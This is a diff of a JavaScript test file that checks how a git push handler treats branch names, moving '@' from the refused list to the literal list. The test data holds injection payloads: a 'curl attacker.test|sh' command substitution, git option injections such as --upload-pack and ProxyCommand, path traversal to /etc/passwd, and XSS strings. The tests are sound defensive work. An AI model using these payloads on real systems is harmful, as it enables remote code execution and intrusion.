@@ -108,7 +108,7 @@ test('a forced push, a deletion and a commit to leave alone are told', () => {
 const literal = [
   ...['main$(id)', 'main`id`', 'main${IFS}id', 'main|id', 'main&&id', 'main<x', "main'id", 'main"id', 'main#id'],
   ...['main%0aid', '<script>alert(1)</script>', "{{constructor.constructor('return(1)')()}}", 'feat/#123'],
-  ...['ümlaut/日本語', 'rtl\u202egnp.exe', 'refs/heads/main', 'main$(curl${IFS}attacker.test|sh)'],
+  ...['ümlaut/日本語', 'rtl\u202egnp.exe', 'refs/heads/main', '@', 'main$(curl${IFS}attacker.test|sh)'],
 ]
 test.each(literal)('the branch %s is taken as it is', (branch) => {
   expect(say('push', push({ branch, after: commit('a') }))).toMatchObject([{ branch }])
@@ -118,7 +118,7 @@ test.each(literal)('the branch %s is taken as it is', (branch) => {
 const refused = [
   ...['--upload-pack=touch${IFS}$CANARY', '-oProxyCommand=touch $CANARY', '--exec=sh', '', 'main branch', 'a..b'],
   ...['.hidden', 'main:id', 'main?x', 'main*x', 'main[x', 'main\\id', 'main\0x', 'main\nid', 'main\rid'],
-  ...['main\u001b[2J', '../../etc/passwd', '/abs', 'end/', '@{-1}', '@'],
+  ...['main\u001b[2J', '../../etc/passwd', '/abs', 'end/', '@{-1}'],
 ]
 test.each(refused)('the branch %j is no branch', (branch) => {
   expect(say('push', push({ branch, after: commit('a') }))).toBe('invalid_ref')
